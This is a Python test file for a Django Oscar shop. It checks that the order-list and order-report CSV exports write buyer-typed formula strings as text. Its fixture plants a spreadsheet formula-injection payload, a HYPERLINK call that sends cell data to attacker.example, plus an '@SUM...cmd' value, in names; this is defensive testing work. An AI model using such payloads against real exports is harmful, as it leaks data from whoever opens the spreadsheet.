"""Oscar's dashboard CSV exports (the order list, the reports) write what buyers typed: a name or an email a
spreadsheet would run as a formula is written as text (issue 17, finding 13, Oscar's own exports)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from oscar.core.loading import get_model

from cms.demo import loader
from shop.dashboard.files import kinds
from shop.jobs.models import FileJob

pytestmark = pytest.mark.django_db
Order = get_model("order", "Order")
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'


@pytest.fixture
def order_with_formulas():
    order = Order.objects.exclude(shipping_address=None).order_by("pk").first()
    assert order is not None, "the demo has orders"
    buyer = get_user_model().objects.create_user(
        email="mua@example.vn", password="mat-khau-2026", first_name=FORMULA, last_name=""
    )
    Order.objects.filter(pk=order.pk).update(user=buyer, guest_email="")
    order.shipping_address.__class__.objects.filter(pk=order.shipping_address_id).update(
        first_name="@SUM(1+1)*cmd", last_name=""
    )
    return Order.objects.get(pk=order.pk)


def _rows(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))


def _admin(client):
    assert client.login(username=loader.STAFF_EMAIL, password=loader.STAFF_PASSWORD)


def test_the_order_list_csv_writes_formulas_as_text(client, order_with_formulas):
    _admin(client)
    rows = _rows(client.get(reverse("dashboard:order-list"), {"response_format": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_order_report_csv_writes_formulas_as_text(client, order_with_formulas, django_capture_on_commit_callbacks):
    """The report's CSV is prepared by the worker (shop/dashboard/files/kinds.py) and downloaded from the user's files."""
    _admin(client)
    day = order_with_formulas.date_placed.date().isoformat()
    form = {"report_type": "order_report", "date_from": day, "date_to": day}
    with django_capture_on_commit_callbacks(execute=True):
        asked = client.post(reverse("dashboard:reports-index"), form)
    assert asked.status_code == 302 and asked["Location"] == reverse("dashboard:ocop-files")
    job = FileJob.objects.filter(kind=kinds.OSCAR_REPORT_CSV).latest("pk")
    assert job.status == FileJob.Status.DONE, job.error
    response = client.get(reverse("dashboard:ocop-file-download", kwargs={"pk": job.pk}))
    assert response["Content-Disposition"] == f'attachment; filename="orders-{day}-to-{day}.csv"'
    rows = _rows(response)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
